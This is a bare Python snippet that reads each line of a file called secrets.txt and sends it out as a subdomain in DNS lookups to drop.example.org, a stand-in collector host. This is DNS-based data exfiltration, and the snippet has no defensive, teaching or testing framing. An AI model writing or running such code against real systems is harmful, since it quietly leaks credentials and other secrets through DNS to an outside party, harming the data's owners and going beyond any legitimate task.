import socket

for line in open("secrets.txt"):
    socket.gethostbyname(line.strip() + ".drop.example.org")
